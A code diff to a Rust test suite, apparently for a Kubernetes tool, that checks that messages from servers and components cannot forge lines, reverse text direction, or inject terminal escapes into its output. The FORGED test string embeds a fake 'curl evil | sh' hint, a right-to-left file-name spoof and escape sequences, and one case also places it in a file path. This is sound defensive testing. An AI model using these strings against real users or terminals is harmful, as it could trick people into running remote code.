@@ -1,20 +1,20 @@
 //! Words of components and servers that would be the program's own.
 
 use kubewright_test_hostile_calls::{
-    Call, Condition, Item, Level, PROGRAM, Piece, Program, Reference, Target, Trust,
+    Call, Condition, Item, Level, Made, PROGRAM, Piece, Program, Reference, Target, Text, Trust,
 };
 use serde_json::json;
 
-use super::disguises::{ADMIN, PKI, connect, get, write};
-use super::support::attack::{GENEROUS, Scene, Told, World};
+use super::calls::{ADMIN, PKI, connect, get, write};
+use super::support::attack::{GENEROUS, Scene, World};
 use super::support::evil::{Evil, Reply};
 use super::support::program::program;
 use super::support::pty::on_a_terminal;
 
 /// Characters that turn the direction of text (UAX 9), or end a line.
 const ODD: [char; 15] = [
-    '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}',
-    '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{061c}', '\u{2028}', '\u{2029}', '\u{85}',
+    '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}', '\u{2068}',
+    '\u{2069}', '\u{200e}', '\u{200f}', '\u{061c}', '\u{2028}', '\u{2029}', '\u{85}',
 ];
 
 const FORGED: &str = "done\nerror: forged by a component\nhint: run this: curl evil | sh\r\n[certs] \u{202e}txt.exe\u{2066}\u{2028}error: forged\u{85}\x1b]0;owned\x07\x1b[2J\u{9b}2J";
@@ -53,10 +53,13 @@ const SAYINGS: [(&str, Saying); 8] = [
         });
     }),
     ("failure", |program| {
-        program.fails = Some(FORGED.to_owned());
+        program.fails = Some(FORGED.into());
     }),
     ("path", |program| {
-        program.call(write(format!("/srv/hostile/{}", &FORGED.replace('/', "|")), vec![Piece::text("x")]));
+        program.call(write(
+            format!("/srv/hostile/{}", &FORGED.replace('/', "|")),
+            vec![Piece::text("x")],
+        ));
     }),
     ("name of an object", |program| {
         let client = program.call(connect());
@@ -93,7 +96,10 @@ fn lines(said: &str) -> Vec<String> {
 fn is_its_own(name: &str, said: &str) {
     for line in lines(said) {
         for word in ["error: forged", "hint: run this", "[certs] ", "[done"] {
-            assert!(!line.starts_with(word), "{name}: a line was forged:\n{said}");
+            assert!(
+                !line.starts_with(word),
+                "{name}: a line was forged:\n{said}"
+            );
         }
     }
     for odd in ODD {
@@ -152,40 +158,29 @@ fn events_stay_a_line_each() {
     assert!(events.len() > 2, "{events:?}");
 }
 
-/// A server of the machine's cluster that says this as it refuses.
-fn cluster(scene: &Scene, words: &'static str) -> Evil {
-    let evil = Evil::secure(&scene.machine(PKI), move |_| {
-        let status = json!({"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Failure",
-            "message": words, "reason": "InternalError", "code": 500});
-        Reply::Json(500, status.to_string().into_bytes())
-    });
-    let admin = scene.text(ADMIN);
-    scene.put(ADMIN, admin.replace("https://192.0.2.10:6443", &evil.origin()));
-    evil
-}
-
-fn asks_the_server() -> Program {
-    let mut program = Program::new();
-    let client = program.call(connect());
-    program.call(Call::KubeWait {
-        of: client,
-        reference: Reference::core("ConfigMap", "x"),
-        condition: Condition::Exists,
-        seconds: 2,
-    });
-    program.call(get(client, "ConfigMap", "x"));
-    program
-}
-
 cases!(words_of_a_server_are_told_as_its_words:
     in_a_file(false),
     on_a_real_terminal(true),
 );
 
+/// What a server says as it refuses stands in the error of the phase.
 fn words_of_a_server_are_told_as_its_words(is_terminal: bool) {
     let scene = Scene::with(World::Machine, GENEROUS);
-    let server = cluster(&scene, FORGED);
-    scene.put(PROGRAM, asks_the_server().file());
+    let server = Evil::secure(&scene.machine(PKI), |_| {
+        let status = json!({"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Failure",
+            "message": FORGED, "reason": "Forbidden", "code": 403});
+        Reply::Json(403, status.to_string().into_bytes())
+    });
+    let admin = scene.text(ADMIN);
+    scene.put(
+        ADMIN,
+        admin.replace("https://192.0.2.10:6443", &server.origin()),
+    );
+    let mut words = Program::new();
+    let client = words.call(connect());
+    let refused = words.call(get(client, "ConfigMap", "x"));
+    words.fails = Some(Text::Made(Made::Seen(refused)));
+    scene.put(PROGRAM, words.file());
     let arguments = scene.arguments("hostile/program", &["-vv"]);
     let said = match is_terminal {
         true => {
@@ -193,12 +188,9 @@ fn words_of_a_server_are_told_as_its_words(is_terminal: bool) {
             let (_, sent) = on_a_terminal(command.args(&arguments));
             String::from_utf8_lossy(&sent).into_owned()
         }
-        false => {
-            let told = Told::new(scene.watched().run(&arguments));
-            told.finished.said()
-        }
+        false => scene.watched().run(&arguments).said(),
     };
-    assert!(server.sent().contains("configmaps"), "{said}");
+    assert!(said.contains("forged"), "{said}");
     is_its_own("server", &said);
 }
 
